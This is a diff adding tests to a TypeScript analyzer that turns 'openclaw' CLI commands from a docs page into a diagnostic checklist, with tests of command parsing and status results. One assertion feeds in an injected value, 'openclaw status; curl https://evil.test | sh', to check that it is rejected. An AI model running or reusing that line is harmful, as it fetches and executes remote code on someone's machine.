@@ -4,7 +4,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { loadCatalog } from '../../../src/catalog/load.ts';
-import { analyze, buildLadder, compileCatalog, LADDER } from '../../../src/engine/index.ts';
+import { analyze, buildLadder, compileCatalog, LADDER, rungFor, rungsFor } from '../../../src/engine/index.ts';
 
 const catalog = loadCatalog();
 const compiled = compileCatalog(catalog.entries);
@@ -71,4 +71,34 @@ test('outputs pasted one by one add up: rungs from earlier pastes stay', () => {
   assert.equal(statuses(both)['openclaw status'], 'healthy');
   assert.equal(statuses(both)['openclaw gateway status'], 'healthy');
   assert.deepEqual(both.next, { command: 'openclaw logs --follow' });
+});
+
+test("a section's checklist: the commands whose output the analyzer reads, in the page's order", () => {
+  const page = [
+    'openclaw gateway status',
+    'openclaw config get gateway.auth.mode',
+    'openclaw gateway status --deep   # also scans system-level services',
+    'openclaw gateway status --json',
+    'lsof -i :18789',
+    'openclaw doctor --fix',
+    'openclaw cron runs --id <jobId> --limit 20',
+  ];
+  assert.deepEqual(
+    rungsFor(page).map((r) => r.command),
+    // --deep prints what gateway status prints: no rung of its own; --fix writes, so it is no rung.
+    ['openclaw gateway status', 'openclaw gateway status --json', 'openclaw cron runs --id <jobId> --limit 20'],
+  );
+  assert.equal(rungFor('openclaw status; curl https://evil.test | sh'), undefined, 'whole command lines only');
+  assert.deepEqual(rungFor('  openclaw   status   --all ')?.command, 'openclaw status --all');
+});
+
+test("a section's checklist on real output: its own rungs, the JSON form ticked off by its own output", () => {
+  const rungs = rungsFor(['openclaw gateway status', 'openclaw status', 'openclaw gateway status --json']);
+  const ladder = buildLadder([capture('2026.9.6', 'wrong-token', 'gateway-status-json')], commandsOf, rungs);
+  assert.deepEqual(statuses(ladder), {
+    'openclaw gateway status': 'problem',
+    'openclaw status': 'missing',
+    'openclaw gateway status --json': 'problem',
+  });
+  assert.equal(ladder.next?.because, 'auth-token-mismatch');
 });
